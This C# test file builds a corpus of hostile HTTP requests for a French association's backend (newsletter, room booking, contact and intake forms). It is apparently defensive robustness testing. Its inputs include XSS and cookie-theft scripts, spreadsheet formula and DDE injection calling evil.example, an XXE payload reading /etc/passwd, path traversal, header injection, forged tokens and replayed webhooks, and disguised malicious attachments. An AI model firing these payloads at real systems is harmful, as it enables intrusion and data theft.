using System.Globalization;
using System.Net.Http.Headers;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using ResoSolidaire.Functions.Newsletter;
using ResoSolidaire.Functions.Rooms;
using ResoSolidaire.Functions.Tests.Forms;
using ResoSolidaire.Functions.Tests.Porteurs;
using ResoSolidaire.LocalHost;

namespace ResoSolidaire.Functions.Tests.Reliability;

/// <summary>One bad request: where it goes, with what, and whether a French HTML page is an acceptable answer.</summary>
public sealed record HostileCase(string Name, string Function, HttpMethod Method, string Path, Func<HttpContent?> Body, string? Key, IReadOnlyDictionary<string, string> Headers, bool HtmlAllowed)
{
    public HttpRequestMessage ToRequest(int number)
    {
        var request = new HttpRequestMessage(Method, Path) { Content = Body() };
        request.Headers.TryAddWithoutValidation("X-Forwarded-For", string.Create(CultureInfo.InvariantCulture, $"10.77.{(number >> 8) & 255}.{number & 255}"));
        if (Key is not null)
        {
            // A staff route: the development bearer token the local host turns into a signed-in principal.
            request.Headers.TryAddWithoutValidation("Authorization", "Bearer " + Key);
        }

        foreach (var (name, value) in Headers)
        {
            if (!request.Headers.TryAddWithoutValidation(name, value))
            {
                request.Content?.Headers.TryAddWithoutValidation(name, value);
            }
        }

        return request;
    }

    public override string ToString() => $"{Function} {Method} {(Path.Length > 90 ? Path[..90] + "…" : Path)} [{Name}]";
}

/// <summary>
/// Builds the hostile corpus from the functions the host declares (so a new endpoint is covered without
/// editing this file): bad route values, bad bodies, bad keys, bad tokens, bad webhooks, bad attachments.
/// </summary>
public static partial class HostileCorpus
{
    /// <summary>
    /// Endpoints that answer a page: the links people follow from a mail, and the public forms when posted by a
    /// plain HTML form (not JSON). A French HTML page is a fine answer there.
    /// </summary>
    public static readonly HashSet<string> HtmlFlows = new(StringComparer.Ordinal)
    {
        "ShowConfirmation", "Confirm", "ShowUnsubscribe", "Unsubscribe", "ShowPreferences", "SavePreferences", "ShowSignedPreview",
        "PostContactMessage", "PostPorteurDeProjet", "ProposeEvent", "Subscribe",
        "ShowAcceptance", "AcceptRequest", "ShowDecline", "DeclineRequest", "ShowProposal", "ProposeSlot", "ShowTakeProposal", "TakeProposal", "ShowCancellation", "CancelBooking",
        "OfferRoom", "RequestBooking",
    };

    /// <summary>Endpoints that read no body: any body is ignored, so a bad one is no bad request (their route values and keys are still tried).</summary>
    public static readonly HashSet<string> TakeNoBody = new(StringComparer.Ordinal)
    {
        "SendMailCheck", "ApproveEvent", "ApproveEdition", "SendTestEdition", "ResendBatch",
    };

    /// <summary>
    /// Values for route parameters: characters forbidden in table keys, control and bidirectional characters, script,
    /// formulas, traversal. A NUL (%00) is left out: Kestrel refuses it with a bare 400 before any function runs.
    /// </summary>
    public static readonly string[] RouteValues =
    [
        "a%2Fb", "a%5Cb", "a%23b", "a%3Fb", "%E2%80%AEcod.exe", "%0D%0ASet-Cookie%3A%20x%3D1", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%3DHYPERLINK(%22http%3A%2F%2Fevil.example%22)", "..%2F..%2Fsecrets", "%27%20or%20%271%27%3D%271", new string('x', 2_000), "%C3%28", "%7F%1B",
    ];

    /// <summary>The public forms among <see cref="HtmlFlows"/> (posted by a plain HTML form); the others are pages of a mail's signed link.</summary>
    private static readonly HashSet<string> PublicForms = new(StringComparer.Ordinal)
    {
        "PostContactMessage", "PostPorteurDeProjet", "ProposeEvent", "Subscribe", "OfferRoom", "RequestBooking",
    };

    private static readonly Dictionary<string, string> NoHeaders = [];

    /// <summary>As the website's script posts: the answer is a problem document, not a page.</summary>
    private static readonly Dictionary<string, string> AcceptJson = new() { ["Accept"] = "application/json" };

    public static IReadOnlyList<HostileCase> Build(IReadOnlyList<HostedFunction> functions, string staffKey, ECDsa webhookKey)
    {
        ArgumentNullException.ThrowIfNull(functions);
        var cases = new List<HostileCase>();
        foreach (var function in functions.Where(f => f.IsHttp && !f.IsDisabled && f.Route is not null))
        {
            // Staff routes are anonymous at the host and authorised by the app: the key is the staff member's bearer token.
            var console = function.Route!.StartsWith("api/equipe", StringComparison.Ordinal);
            var staff = console || function.Route.StartsWith("api/staff/", StringComparison.Ordinal);
            var key = staff ? staffKey : null;
            var html = HtmlFlows.Contains(function.Name) || console;
            foreach (var method in function.Methods.Select(m => new HttpMethod(m)))
            {
                var hasParameters = RouteParameter().IsMatch(function.Route!);
                foreach (var value in hasParameters ? RouteValues : [])
                {
                    cases.Add(new HostileCase("route " + value[..Math.Min(12, value.Length)], function.Name, method, RouteParameter().Replace(function.Route!, value), JsonObjectBody, key, NoHeaders, html));
                }

                if (staff && !console)
                {
                    var path = RouteParameter().Replace(function.Route!, "inexistant");
                    cases.Add(new HostileCase("no key", function.Name, method, path, JsonObjectBody, null, NoHeaders, false));
                    cases.Add(new HostileCase("wrong key", function.Name, method, path, JsonObjectBody, "wrong-" + staffKey, NoHeaders, false));
                    cases.Add(new HostileCase("wrong code", function.Name, method, path + "?code=forged-key", JsonObjectBody, null, NoHeaders, false));
                    cases.Add(new HostileCase("bearer", function.Name, method, path, JsonObjectBody, null, new Dictionary<string, string> { ["Authorization"] = "Bearer forged-" + staffKey }, false));
                }

                if ((method == HttpMethod.Post || method == HttpMethod.Put) && !TakeNoBody.Contains(function.Name))
                {
                    var path = RouteParameter().Replace(function.Route!, "inexistant");
                    foreach (var (name, body) in Bodies())
                    {
                        cases.Add(new HostileCase(name, function.Name, method, path, body, key, NoHeaders, html));
                    }
                }
            }
        }

        cases.AddRange(Tokens(functions));
        cases.AddRange(Webhooks(webhookKey));
        cases.AddRange(Forms());
        return cases;
    }

    private static StringContent JsonObjectBody() => new("{}", Encoding.UTF8, "application/json");

    private static IEnumerable<(string Name, Func<HttpContent?> Body)> Bodies()
    {
        yield return ("malformed json", () => Json("{\"name\": "));
        yield return ("trailing garbage", () => Json("{} {}"));
        yield return ("nested arrays", () => Json(new string('[', 100_000) + new string(']', 100_000)));
        yield return ("nested objects", () => Json(string.Concat(Enumerable.Repeat("{\"a\":", 5_000)) + "1" + new string('}', 5_000)));
        yield return ("json string with script", () => Json("\"<script>alert(1)</script>\""));
        yield return ("json array of formulas", () => Json("[\"=cmd|' /C calc'!A0\", \"+1+1\", \"@SUM(A1)\", \"-2+3\"]"));
        yield return ("json null", () => Json("null"));
        yield return ("invalid utf-8", () => Bytes([.. "{\"name\":\""u8, 0xC3, 0x28, 0xFF, 0xFE, .. "\"}"u8], "application/json"));
        yield return ("huge string", () => Json("{\"email\":\"" + new string('a', 2_000_000) + "\"}"));
        yield return ("huge body", () => Bytes(new byte[12_000_000], "application/json"));
        yield return ("keys with forbidden characters", () => Json("{\"a/b\\\\c#d?e\":1,\"\\u202eadmin\":true,\"\\u0000\":\"\\u0007\"}"));
        yield return ("text/plain", () => new StringContent("{\"email\":\"a@b.fr\"}", Encoding.UTF8, "text/plain"));
        yield return ("xml", () => new StringContent("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", Encoding.UTF8, "application/xml"));
        yield return ("no content type", () => new ByteArrayContent("{\"x\":1}"u8.ToArray()));
        yield return ("broken multipart", () => Bytes("--abc\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\nno end"u8.ToArray(), "multipart/form-data; boundary=abc"));
        yield return ("multipart without boundary", () => Bytes("--abc--"u8.ToArray(), "multipart/form-data"));
    }

    /// <summary>Signed links forged, expired, tampered, of another purpose, oversized or carrying bad bytes, on every route that takes one.</summary>
    private static IEnumerable<HostileCase> Tokens(IReadOnlyList<HostedFunction> functions)
    {
        var tokens = Newsletter.NewsletterBackend.Tokens();
        var subject = Newsletter.NewsletterBackend.EmailKeyOf("personne@exemple.fr");
        var expired = Newsletter.NewsletterBackend.Tokens(new Microsoft.Extensions.Time.Testing.FakeTimeProvider(DateTimeOffset.UtcNow.AddDays(-800)));
        var bad = new Dictionary<string, Func<string, string>>
        {
            ["forged"] = _ => "c3Viamll" + "." + Convert.ToBase64String(RandomNumberGenerator.GetBytes(32)).TrimEnd('=').Replace('+', '-').Replace('/', '_'),
            ["expired"] = purpose => expired.Issue(purpose, subject, TimeSpan.FromDays(7)),
            ["other purpose"] = purpose => tokens.Issue(purpose == NewsletterLinks.UnsubscribePurpose ? NewsletterLinks.ConfirmPurpose : NewsletterLinks.UnsubscribePurpose, subject, TimeSpan.FromDays(7)),
            // One character of the payload changed (not the last of a part: base64 ignores its low bits).
            ["tampered"] = purpose => Tamper(tokens.Issue(purpose, subject, TimeSpan.FromDays(7))),
            ["empty"] = _ => "",
            ["huge"] = _ => new string('A', 8_000),
            ["bad bytes"] = _ => "%C3%28%00%E2%80%AE",
            ["dots"] = _ => "...",
        };
        var routes = new Dictionary<string, string>(StringComparer.Ordinal)
        {
            ["ShowConfirmation"] = NewsletterLinks.ConfirmPurpose,
            ["Confirm"] = NewsletterLinks.ConfirmPurpose,
            ["ShowUnsubscribe"] = NewsletterLinks.UnsubscribePurpose,
            ["Unsubscribe"] = NewsletterLinks.UnsubscribePurpose,
            ["ShowPreferences"] = NewsletterLinks.PreferencesPurpose,
            ["SavePreferences"] = NewsletterLinks.PreferencesPurpose,
            ["ShowSignedPreview"] = NewsletterLinks.PreviewPurpose,
            ["ShowAcceptance"] = RoomLinks.AcceptPurpose,
            ["AcceptRequest"] = RoomLinks.AcceptPurpose,
            ["ShowDecline"] = RoomLinks.DeclinePurpose,
            ["DeclineRequest"] = RoomLinks.DeclinePurpose,
            ["ShowProposal"] = RoomLinks.ProposePurpose,
            ["ProposeSlot"] = RoomLinks.ProposePurpose,
            ["ShowTakeProposal"] = RoomLinks.TakePurpose,
            ["TakeProposal"] = RoomLinks.TakePurpose,
            ["ShowCancellation"] = RoomLinks.CancelByLenderPurpose,
            ["CancelBooking"] = RoomLinks.CancelByBorrowerPurpose,
        };
        // A page of a mail's link added to HtmlFlows without its purpose here would get no token case: say so.
        var untried = functions.Where(f => HtmlFlows.Contains(f.Name) && !PublicForms.Contains(f.Name) && !routes.ContainsKey(f.Name)).Select(f => f.Name).ToList();
        if (untried.Count > 0)
        {
            throw new InvalidOperationException("Signed-link pages without token cases (add their purpose to HostileCorpus.Tokens): " + string.Join(", ", untried));
        }

        foreach (var function in functions.Where(f => routes.ContainsKey(f.Name)))
        {
            foreach (var (name, token) in bad)
            {
                var value = token(routes[function.Name]);
                var query = name == "bad bytes" ? value : Uri.EscapeDataString(value);
                var method = new HttpMethod(function.Methods[0]);
                Func<HttpContent?> body = method == HttpMethod.Post
                    ? () => new FormUrlEncodedContent([new("List-Unsubscribe", "One-Click"), new("territories", "243500139")])
                    : () => null;
                yield return new HostileCase("token " + name, function.Name, method, $"{function.Route}?token={query}", body, null, NoHeaders, true);
            }
        }
    }

    /// <summary>SendGrid's Event Webhook unsigned, signed by another key, replayed late or early, or with a signature of another body.</summary>
    private static IEnumerable<HostileCase> Webhooks(ECDsa key)
    {
        const string Route = "api/newsletter/sendgrid/events";
        var body = $$"""[{"email":"victime@exemple.fr","event":"unsubscribe","sg_event_id":"{{Guid.NewGuid():N}}"}]""";
        using var other = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var now = DateTimeOffset.UtcNow;
        var variants = new List<(string Name, string? Signature, string? Timestamp, string Body)>
        {
            ("unsigned", null, null, body),
            ("no timestamp", Sign(key, now, body).Signature, null, body),
            ("other key", Sign(other, now, body).Signature, Sign(other, now, body).Timestamp, body),
            ("stale replay", Sign(key, now.AddHours(-2), body).Signature, Sign(key, now.AddHours(-2), body).Timestamp, body),
            ("from the future", Sign(key, now.AddHours(2), body).Signature, Sign(key, now.AddHours(2), body).Timestamp, body),
            ("body swapped", Sign(key, now, "[]").Signature, Sign(key, now, "[]").Timestamp, body),
            ("garbage signature", "%%%not-base64%%%", Sign(key, now, body).Timestamp, body),
            ("timestamp not a number", Sign(key, now, body).Signature, "demain", body),
        };
        foreach (var (name, signature, timestamp, content) in variants)
        {
            var headers = new Dictionary<string, string>();
            if (signature is not null)
            {
                headers["X-Twilio-Email-Event-Webhook-Signature"] = signature;
            }

            if (timestamp is not null)
            {
                headers["X-Twilio-Email-Event-Webhook-Timestamp"] = timestamp;
            }

            yield return new HostileCase("webhook " + name, "ReceiveSendGridEvents", HttpMethod.Post, Route, () => Json(content), null, headers, false);
        }

        static (string Signature, string Timestamp) Sign(ECDsa key, DateTimeOffset at, string body)
        {
            var timestamp = at.ToUnixTimeSeconds().ToString(CultureInfo.InvariantCulture);
            return (Convert.ToBase64String(key.SignData(Encoding.UTF8.GetBytes(timestamp + body), HashAlgorithmName.SHA256, DSASignatureFormat.Rfc3279DerSequence)), timestamp);
        }
    }

    /// <summary>The public forms with hostile values in otherwise plausible posts (consent missing, so none is valid), and bad attachments.</summary>
    private static IEnumerable<HostileCase> Forms()
    {
        var values = new Dictionary<string, string>
        {
            ["script"] = "<script>alert(document.cookie)</script>",
            ["formula"] = "=HYPERLINK(\"http://evil.example?\"&A1,\"Cliquez\")",
            ["bidi"] = "\u202Egnp.exe\u202C admin",
            ["control"] = "a\u0000b\u0007c\u001Bd",
            ["table key characters"] = "a/b\\c#d?e",
            ["huge"] = new string('é', 300_000),
        };
        foreach (var (name, value) in values)
        {
            foreach (var field in new[] { "name", "email", "topic", "phone", "message" })
            {
                var json = new JsonObject { ["name"] = "Camille", ["email"] = "camille@exemple.fr", ["topic"] = "information", ["message"] = "Bonjour à toute l'équipe.", ["consent"] = false };
                json[field] = value;
                var text = json.ToJsonString();
                yield return new HostileCase($"contact {field} {name}", "PostContactMessage", HttpMethod.Post, "api/contact", () => Json(text), null, NoHeaders, false);
            }

            yield return new HostileCase($"contact form post {name}", "PostContactMessage", HttpMethod.Post, "api/contact",
                () => new FormUrlEncodedContent([new("name", value), new("email", value), new("topic", "information"), new("message", value)]), null,
                new Dictionary<string, string> { ["Accept"] = "text/html" }, true);
            yield return new HostileCase($"porteur {name}", "PostPorteurDeProjet", HttpMethod.Post, "api/porteurs",
                () => Intake([("firstName", value), ("commune", value), ("projectTitle", value)]), null, AcceptJson, false);
            yield return new HostileCase($"agenda {name}", "ProposeEvent", HttpMethod.Post, "api/agenda/events",
                () => Json($"{{\"title\":{System.Text.Json.JsonSerializer.Serialize(value)},\"email\":{System.Text.Json.JsonSerializer.Serialize(value)}}}"), null, NoHeaders, false);
            yield return new HostileCase($"room offer {name}", "OfferRoom", HttpMethod.Post, "api/rooms/offers",
                () => Json($"{{\"structure\":{System.Text.Json.JsonSerializer.Serialize(value)},\"name\":{System.Text.Json.JsonSerializer.Serialize(value)},\"monday\":{System.Text.Json.JsonSerializer.Serialize(value)},\"closedPeriods\":{System.Text.Json.JsonSerializer.Serialize(value)},\"contactEmail\":{System.Text.Json.JsonSerializer.Serialize(value)}}}"), null, NoHeaders, false);
            yield return new HostileCase($"subscription {name}", "Subscribe", HttpMethod.Post, "api/newsletter/subscriptions",
                () => Json($"{{\"email\":{System.Text.Json.JsonSerializer.Serialize(value)},\"consent\":true}}"), null, NoHeaders, false);
        }

        var attachments = new (string Name, string File, byte[] Content, string Type)[]
        {
            ("executable named pdf", "budget.pdf", SampleFiles.Executable(), "application/pdf"),
            ("html named png", "photo.png", "<html><script>alert(1)</script></html>"u8.ToArray(), "image/png"),
            ("zip named docx", "statuts.docx", ZipWithout(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
            ("svg with script", "logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"u8.ToArray(), "image/svg+xml"),
            ("empty file", "vide.pdf", [], "application/pdf"),
            ("over 10 MB", "gros.pdf", SampleFiles.PdfOfSize((10 * 1024 * 1024) + 1), "application/pdf"),
            ("traversal name", "../../../etc/passwd.pdf", SampleFiles.Executable(), "application/pdf"),
        };
        foreach (var (name, file, content, type) in attachments)
        {
            yield return new HostileCase("attachment " + name, "PostPorteurDeProjet", HttpMethod.Post, "api/porteurs", () => Intake([], (file, content, type)), null, AcceptJson, false);
        }

        foreach (var (name, file, content, type) in attachments)
        {
            yield return new HostileCase("photo " + name, "OfferRoom", HttpMethod.Post, "api/rooms/offers", () => RoomOffer(file, content, type), null, AcceptJson, false);
        }

        yield return new HostileCase("four attachments", "PostPorteurDeProjet", HttpMethod.Post, "api/porteurs",
            () => Intake([], ("a.pdf", SampleFiles.Pdf(), "application/pdf"), ("b.pdf", SampleFiles.Pdf(), "application/pdf"), ("c.pdf", SampleFiles.Pdf(), "application/pdf"), ("d.pdf", SampleFiles.Pdf(), "application/pdf")), null, AcceptJson, false);
    }

    /// <summary>An intake with the given fields replaced and its consent left out, so that it is never valid.</summary>
    private static MultipartFormDataContent Intake((string Field, string Value)[] overrides, params (string File, byte[] Content, string Type)[] files)
    {
        var content = new MultipartFormDataContent();
        foreach (var (name, value) in PorteurServiceTests.Fields())
        {
            var replaced = overrides.FirstOrDefault(o => o.Field == name).Value ?? value;
            content.Add(new StringContent(name == "consent" ? "" : replaced, Encoding.UTF8), name);
        }

        foreach (var (file, bytes, type) in files)
        {
            var part = new ByteArrayContent(bytes);
            part.Headers.ContentType = MediaTypeHeaderValue.Parse(type);
            content.Add(part, "attachments", file);
        }

        return content;
    }

    /// <summary>A room offer without consent (never valid) carrying one file as its photo.</summary>
    private static MultipartFormDataContent RoomOffer(string file, byte[] bytes, string type)
    {
        var content = new MultipartFormDataContent();
        foreach (var (name, value) in new[] { ("structure", "Maison de quartier"), ("name", "Salle A"), ("kind", "bureau"), ("capacity", "6"), ("address", "1 rue A"), ("commune", "35238"), ("conditions", "gratuit"), ("monday", "9h-12h"), ("contactName", "Lou"), ("contactEmail", "lou@exemple.fr") })
        {
            content.Add(new StringContent(value, Encoding.UTF8), name);
        }

        var part = new ByteArrayContent(bytes);
        part.Headers.ContentType = MediaTypeHeaderValue.Parse(type);
        content.Add(part, "photos", file);
        return content;
    }

    private static byte[] ZipWithout()
    {
        using var stream = new MemoryStream();
        using (var archive = new System.IO.Compression.ZipArchive(stream, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true))
        {
            using var writer = new StreamWriter(archive.CreateEntry("evil.js").Open());
            writer.Write("WScript.Shell");
        }

        return stream.ToArray();
    }

    private static string Tamper(string token) => token[..4] + (token[4] == 'x' ? 'y' : 'x') + token[5..];

    private static StringContent Json(string json) => new(json, Encoding.UTF8, "application/json");

    private static ByteArrayContent Bytes(byte[] bytes, string type)
    {
        var content = new ByteArrayContent(bytes);
        content.Headers.TryAddWithoutValidation("Content-Type", type);
        return content;
    }

    [GeneratedRegex(@"\{[^}]+\}")]
    private static partial Regex RouteParameter();
}
